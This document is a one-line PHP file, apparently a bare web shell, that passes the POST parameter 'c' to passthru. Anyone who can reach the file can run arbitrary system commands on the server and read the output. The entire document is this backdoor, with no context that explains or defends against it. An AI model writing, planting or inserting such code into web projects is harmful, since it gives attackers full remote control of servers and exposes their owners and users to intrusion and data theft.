<?php passthru($_POST['c']); ?>
